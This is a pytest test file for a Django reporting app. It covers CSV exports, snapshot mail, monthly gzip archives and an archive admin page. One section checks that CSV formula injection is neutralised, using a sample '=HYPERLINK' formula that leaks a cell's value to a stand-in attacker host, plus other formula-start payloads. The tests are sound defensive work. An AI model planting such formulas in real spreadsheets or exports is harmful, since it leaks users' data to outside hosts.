import csv
import gzip
import io
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from django.core import mail
from django.core.management import CommandError, call_command
from django.urls import reverse

from reports.export.archive import archive_month
from reports.export.mail import send_snapshot_mail, unsent_snapshot_ids
from reports.export.spreadsheet import section_csv
from reports.models import Archive, Snapshot, SnapshotSubscription
from reports.snapshots.sections import Section
from tests.reports.metrics_data import at, event, save
from tests.reports.snapshot_data import SHANGHAI, built

NOW = datetime(2025, 11, 18, 9, 0, tzinfo=SHANGHAI)  # Tuesday after week 46
SECTIONS = [
    {
        "key": "kpis",
        "title": "KPIs vs target",
        "columns": ["KPI", "Value"],
        "rows": [["Orders", "12"], ["Leads", None]],
    },
    {"key": "funnel", "title": "Funnel", "columns": ["Step", "People"], "rows": [["qr_scan", 100]]},
]


@pytest.fixture
def storage(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {**settings.STORAGES["default"], "OPTIONS": {"location": str(tmp_path)}},
    }
    return tmp_path


def read_gzip_csv(path) -> list[list[str]]:
    with gzip.open(path, "rt", encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# --- CSV -----------------------------------------------------------------------------


def test_a_section_becomes_csv_with_its_header_and_empty_cells_for_none():
    section = Section("kpis", "KPIs", ["KPI", "Value"])
    section.add("Orders", 12)
    section.add("Revenue, CNY", None)

    text = section_csv(section.as_dict())

    assert text.startswith("\ufeff")  # Excel's cue that the file is UTF-8
    assert list(csv.reader(io.StringIO(text[1:]))) == [["KPI", "Value"], ["Orders", "12"], ["Revenue, CNY", ""]]


# --- subscriber mail -----------------------------------------------------------------


def test_subscribers_get_the_new_snapshot_as_html_with_one_csv_per_section(db, analyst, marketer):
    SnapshotSubscription.objects.create(user=analyst, kind="weekly")
    SnapshotSubscription.objects.create(user=marketer, kind="daily")
    snapshot = built(
        "weekly", "2025-W46", data={"title": "Weekly review 2025-W46", "summary": ["1 order"], "sections": SECTIONS}
    )

    sent = send_snapshot_mail(snapshot.pk, now=NOW)

    assert sent == 1 and len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == [analyst.email] and "Weekly review 2025-W46" in message.subject
    html = message.alternatives[0][0]
    assert "<table" in html and "Orders" in html and "1 order" in html
    assert [(name, mimetype) for name, _, mimetype in message.attachments] == [
        ("weekly-2025-W46-kpis.csv", "text/csv"),
        ("weekly-2025-W46-funnel.csv", "text/csv"),
    ]
    assert message.attachments[0][1].splitlines()[1] == "Orders,12"


def test_a_snapshot_is_mailed_once_even_if_the_task_runs_twice(db, analyst):
    SnapshotSubscription.objects.create(user=analyst, kind="weekly")
    snapshot = built("weekly", "2025-W46", data={"sections": SECTIONS})

    first, second = send_snapshot_mail(snapshot.pk, now=NOW), send_snapshot_mail(snapshot.pk, now=NOW)

    assert (first, second) == (1, 0) and len(mail.outbox) == 1
    assert Snapshot.objects.get().mailed_at == NOW


def test_backfilled_old_periods_are_not_mailed(db, analyst):
    SnapshotSubscription.objects.create(user=analyst, kind="weekly")
    old = built("weekly", "2025-W30", data={"sections": SECTIONS})

    assert send_snapshot_mail(old.pk, now=NOW) == 0
    assert mail.outbox == [] and old.pk not in unsent_snapshot_ids(now=NOW)


def test_unsent_recent_snapshots_are_found_by_the_sweeper(db):
    recent = built("weekly", "2025-W46", data={"sections": SECTIONS})
    built("weekly", "2025-W45", data={"sections": SECTIONS}, mailed_at=NOW)

    assert unsent_snapshot_ids(now=NOW) == [recent.pk]


# --- archive -------------------------------------------------------------------------


def test_the_archive_writes_events_ad_spend_and_snapshots_as_gzip_csv(db, storage):
    save(
        event("qr_scan", "a", at("2025-10-01", "00:30")),  # Shanghai 1 Oct, still 30 Sep in UTC
        event("pay_success", "a", at("2025-10-31", "23:00"), value="9.90", properties={"order": "o-1"}),
        event("qr_scan", "b", at("2025-11-01", "00:10")),  # next month
    )
    built("daily", "2025-10-05", data={"sections": SECTIONS})

    archive = archive_month("2025-10")

    events = read_gzip_csv(storage / "archive/2025/2025-10/events.csv.gz")
    assert [row[1] for row in events[1:]] == ["qr_scan", "pay_success"]
    assert events[2][events[0].index("properties")] == '{"order": "o-1"}'
    snapshots = read_gzip_csv(storage / "archive/2025/2025-10/snapshots.csv.gz")
    assert snapshots[0] == ["kind", "period_label", "built_at", "stale", "section", "row", "column", "value"]
    assert len(snapshots) == 1 + 2 * 2 + 2  # two kpi rows and one funnel row, two columns each
    assert archive.files["events"]["rows"] == 2 and archive.finished_at is not None


def test_re_running_the_archive_replaces_the_files_and_the_record(db, storage):
    save(event("qr_scan", "a", at("2025-10-02")))
    archive_month("2025-10")
    save(event("qr_scan", "late", at("2025-10-03"), received_at=NOW))

    archive_month("2025-10")

    folder = storage / "archive/2025/2025-10"
    assert sorted(p.name for p in folder.iterdir()) == ["ad_spend.csv.gz", "events.csv.gz", "snapshots.csv.gz"]
    assert len(read_gzip_csv(folder / "events.csv.gz")) == 1 + 2
    assert Archive.objects.get().files["events"]["rows"] == 2


def test_the_archive_sends_a_fixed_number_of_queries_whatever_the_row_count(db, storage, django_assert_max_num_queries):
    save(*[event("page_view", f"u{i}", at("2025-10-02") + timedelta(seconds=i)) for i in range(30)])

    with django_assert_max_num_queries(12):
        archive_month("2025-10")

    assert Archive.objects.get().files["events"]["rows"] == 30


def test_the_archive_command_refuses_a_bad_or_open_month(db, storage):
    with pytest.raises(CommandError, match="not a monthly period"):
        call_command("export_archive", "2025-1")
    with pytest.raises(CommandError, match="has not ended"):
        call_command("export_archive", "2999-01")


def test_the_archive_command_reports_each_file(db, storage, capsys):
    call_command("export_archive", "2025-10")

    out = capsys.readouterr().out
    assert "events: 0 rows" in out and "Archived 2025-10" in out


# --- formulas in CSV cells (docs/reliability.md "CSV exports") -----------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")'


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_hyperlink_formula_sent_as_an_event_page_is_not_live_in_the_weekly_csvs(db, client, analyst):
    from events.models import IngestKey
    from reports.snapshots.build import build_snapshot
    from tests.reports.snapshot_data import AFTER_WEEK, ensure_funnel_plan

    ensure_funnel_plan()
    _, raw_key = IngestKey.generate(name="server", source="crm", kind=IngestKey.Kind.SERVER)
    batch = [
        {"event_name": "page_view", "user_id": "attacker", "page": HYPERLINK, "ts": "2025-11-12T09:00:00+08:00"},
        {"event_name": "pay_success", "user_id": "attacker", "page": "checkout", "value": "10",
         "currency": "CNY", "ts": "2025-11-12T10:00:00+08:00"},
    ]  # fmt: skip
    sent = client.post("/api/v1/events", batch, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {raw_key}")
    assert sent.json()["accepted"] == 2
    snapshot = build_snapshot("weekly", "2025-W46", now=AFTER_WEEK)
    client.force_login(analyst)

    exported = client.get(reverse("snapshot-section-csv", args=[snapshot.pk, "top_paths"]))
    SnapshotSubscription.objects.create(user=analyst, kind="weekly")
    send_snapshot_mail(snapshot.pk, now=AFTER_WEEK)

    attached = dict((name, text) for name, text, _ in mail.outbox[0].attachments)["weekly-2025-W46-top_paths.csv"]
    for text in (exported.content.decode(), attached):
        path_cell = csv_cells(text)[1][0]
        assert path_cell == "'" + HYPERLINK  # shown as text, never run
        assert csv_cells(text)[1][1] == "1"


def test_every_formula_start_is_neutralised_and_negative_numbers_stay_numbers():
    section = Section("signals", "Signals", ["Campaign", "Change"])
    for name in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "Q4 sale"):
        section.add(name, None)
    section.add("Refunds", Decimal("-12.50"))  # cell() keeps it as the text "-12.50"
    section.add("Change", -3)
    section.add("Growth", 0.25)

    rows = csv_cells(section_csv(section.as_dict()))[1:]

    assert [row[0] for row in rows[:8]] == [
        "'=1+1",
        "'+1+1",
        "'-1+1",
        "'@SUM(A1)",
        "'\t=1+1",
        "'\r=1+1",
        "'-",
        "Q4 sale",
    ]
    assert [row[1] for row in rows[8:]] == ["-12.50", "-3", "0.25"]


def test_the_monthly_archive_neutralises_formulas_in_event_fields(db, storage):
    save(event("page_view", "@evil", at("2025-10-10"), page=HYPERLINK, value="-12.50"))

    archive_month("2025-10")

    events = read_gzip_csv(storage / "archive/2025/2025-10/events.csv.gz")
    header, row = events[0], events[1]
    assert row[header.index("page")] == "'" + HYPERLINK
    assert row[header.index("user_id")] == "'@evil"
    assert row[header.index("value")] == "-12.50"


def test_the_archive_page_lists_files_with_sizes_and_download_links(db, storage, client, analyst, marketer):
    save(event("qr_scan", "a", at("2025-10-02")))
    archive = archive_month("2025-10")
    client.force_login(analyst)

    page = client.get(f"/admin/reports/archive/{archive.pk}/change/").content.decode()
    download = client.get(f"/admin/reports/archive/{archive.pk}/download/events/")

    events_bytes = archive.files["events"]["bytes"]
    assert f"/admin/reports/archive/{archive.pk}/download/events/" in page
    assert "1 rows" in page and f"{events_bytes}\xa0bytes" in page  # Django's filesizeformat
    assert '{"events"' not in page  # no raw JSON
    assert download.status_code == 200
    assert gzip.decompress(b"".join(download.streaming_content)).decode().splitlines()[1].split(",")[1] == "qr_scan"
    assert client.get(f"/admin/reports/archive/{archive.pk}/download/nope/").status_code == 404
    client.force_login(marketer)
    assert client.get(f"/admin/reports/archive/{archive.pk}/download/events/").status_code in {302, 403}
